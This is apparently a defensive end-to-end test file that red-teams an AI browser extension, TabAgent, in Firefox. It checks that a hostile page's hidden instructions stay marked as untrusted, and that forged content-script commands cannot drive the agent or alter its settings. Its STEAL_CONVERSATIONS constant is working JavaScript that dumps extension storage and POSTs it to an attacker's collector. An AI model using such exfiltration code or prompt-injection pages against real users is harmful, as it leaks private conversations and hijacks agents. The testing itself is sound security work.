"""Red team in Firefox: the walls between web pages and TabAgent, attacked as in Chromium
(tests/e2e/test_red_team_walls.py). A hostile page's hidden instructions stay out of what the
model reads and what it can see stays inside the one marking; the page itself has no way to
TabAgent's messages; a content script it has compromised can neither drive the agent nor
change its settings, and the listening post the attacker set up hears nothing."""

from __future__ import annotations

import json

import pytest

from tests.e2e.red_team import RED_TEAM_PAGES, SEND_EACH, forged_commands, marked_blocks
from tests.helpers.model_server import Reply

from .red_team import as_content_script

pytestmark = pytest.mark.usefixtures("secret_api_key")
SITE = RED_TEAM_PAGES
SETTINGS_NOW = "chrome.storage.local.get('settings').then((all) => all.settings)"


def test_a_hostile_page_stays_inside_one_marking(tabs, site):
    url = site.url("hostile.html")
    tabs.show(url)
    text = tabs.call_tool("read_page")
    assert f'<page_content source="{url}" untrusted="true">' in text
    assert marked_blocks(text) == 1, text[-500:]


def test_the_page_itself_has_no_way_to_tabagent(tabs, site):
    tabs.show(site.url("hostile.html"))
    reach = tabs.in_page("({ chrome: typeof chrome, browser: typeof browser })")
    assert reach == {"chrome": "undefined", "browser": "undefined"}


def test_a_content_script_cannot_run_turns_tools_or_settings(tabs, model, site, post):
    model.reset()
    post.hits.clear()
    url = site.url("hostile.html")
    tabs.show(url)
    settings_before = tabs.run(SETTINGS_NOW)
    forged = [*forged_commands(post.url("v1")), {"type": "python-status", "status": {"ready": False, "error": "FORGED STATUS"}}]
    replies = as_content_script(tabs, url, SEND_EACH, forged)
    assert all("error" in r or r.get("reply") is None or r["reply"].get("ok") is False for r in replies), replies
    assert tabs.in_page("document.getElementById('log')?.textContent ?? 'nothing yet'") == "nothing yet"
    assert post.hits == [] and model.requests == []
    assert tabs.run(SETTINGS_NOW) == settings_before
    assert "FORGED" not in tabs.run("document.body.textContent")


# What a compromised content script that still has the storage API takes: all of storage.local,
# and a database of TabAgent's name in its own (the page's) origin; it posts what it found to
# the attacker's listening post.
STEAL_CONVERSATIONS = """async (collector) => {
  const local = await chrome.storage.local.get(null);
  const database = await new Promise((resolve) => {
    const request = indexedDB.open("tabagent-conversations");
    request.onsuccess = () => resolve([...request.result.objectStoreNames]);
    request.onerror = () => resolve(String(request.error));
  });
  const found = JSON.stringify({ local, database });
  await fetch(collector, { method: "POST", body: found, mode: "no-cors" }).catch(() => {});
  return { keys: Object.keys(local), database, found };
}"""

CONFIDED = "My biopsy came back positive, what should I ask the oncologist?"
ALL_CONVERSATIONS = "import(chrome.runtime.getURL('extension/shared/storage/conversations.js')).then((m) => m.loadAllConversations())"


def test_a_content_script_that_kept_the_storage_api_finds_no_conversation(tabs, model, site, post):
    """Firefox lets content scripts read storage.local. The first wall removes the storage API
    from TabAgent's content-script world before its page tools meet a page; here no page tool
    has run in the page yet, so the script still has it, as one that got past that wall would.
    It reads everything and posts it to the listening post: the user's conversation is not
    there (it is in the extension's own database, which a page's origin cannot open), and the
    panel still has it."""
    model.reset()
    post.hits.clear()
    tabs.new_conversation()
    model.script(Reply(text="Ask about the stage and the options."))
    tabs.send(CONFIDED)
    assert tabs.wait_for_status("ok", "error") == "ok"
    url = site.url("hostile.html") + "?storage"
    tabs.show(url)
    taken = as_content_script(tabs, url, STEAL_CONVERSATIONS, post.url("collect"))
    assert "settings" in taken["keys"]  # the storage API is there: only the second wall stands
    assert [hit["path"] for hit in post.hits] == ["/collect"]  # the post hears what was found ...
    assert "biopsy" not in post.hits[0]["body"] and "oncologist" not in taken["found"]  # ... and no conversation
    assert [key for key in taken["keys"] if key.startswith("conversation")] == [] and taken["database"] == []
    assert CONFIDED in json.dumps(tabs.run(ALL_CONVERSATIONS))
